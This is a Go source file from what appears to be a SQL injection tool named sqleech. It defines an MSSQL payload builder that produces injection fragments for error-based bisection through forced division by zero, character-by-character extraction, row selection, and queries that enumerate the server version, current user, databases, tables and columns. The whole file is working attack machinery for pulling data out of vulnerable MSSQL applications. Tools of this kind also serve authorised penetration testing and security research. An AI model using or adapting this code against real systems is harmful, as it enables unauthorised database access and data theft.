package forge

import (
	"fmt"
	"strings"

	"github.com/0x6d61/sqleech/internal/sqlictx"
)

// MSSQL overrides the primitives whose syntax differs from the
// MySQL-like Base default: string concatenation (+), substring, and the
// division-by-zero bisection branch. MSSQL has no LIMIT clause, so Take
// falls back to a ROW_NUMBER() window wrapper.
type MSSQL struct {
	Base
}

// NewMSSQL constructs an MSSQL forge bound to ctx.
func NewMSSQL(ctx *sqlictx.Context) *MSSQL {
	return &MSSQL{Base: NewBase(ctx)}
}

func (m *MSSQL) Name() string { return "MSSQL" }

func (m *MSSQL) ConcatStr(parts ...string) string {
	return strings.Join(parts, "+")
}

func (m *MSSQL) GetChar(s string, pos int) string {
	return fmt.Sprintf("SUBSTRING(%s,%d,1)", s, pos)
}

// WrapBisec evaluates to the scalar 1 (success, matches the surrounding
// "=1" comparison built by WrapSQL) when cdt is true, and raises a
// division-by-zero error otherwise.
func (m *MSSQL) WrapBisec(cdt string) string {
	return fmt.Sprintf("SELECT CASE WHEN (%s) THEN 1 ELSE 1/0 END", cdt)
}

// Take returns the 0-based i-th record via a ROW_NUMBER() window,
// MSSQL's idiomatic nth-row pattern (no native LIMIT/OFFSET clause).
func (m *MSSQL) Take(records string, i int) string {
	return fmt.Sprintf(
		"(SELECT TOP 1 q.* FROM (SELECT ROW_NUMBER() OVER (ORDER BY (SELECT NULL)) AS rn, t.* FROM (%s) t) q WHERE q.rn=%d)",
		records, i+1,
	)
}

func (m *MSSQL) GetVersion() string         { return "@@version" }
func (m *MSSQL) GetUser() string            { return "SYSTEM_USER" }
func (m *MSSQL) GetCurrentDatabase() string { return "DB_NAME()" }

func (m *MSSQL) GetDatabases() (string, error) {
	return "SELECT name FROM sys.databases", nil
}

func (m *MSSQL) GetTables(db string) (string, error) {
	return fmt.Sprintf("SELECT table_name FROM %s.information_schema.tables", db), nil
}

func (m *MSSQL) GetFields(table, db string) (string, error) {
	return fmt.Sprintf(
		"SELECT column_name FROM %s.information_schema.columns WHERE table_name=%s",
		db, m.WrapString(table),
	), nil
}
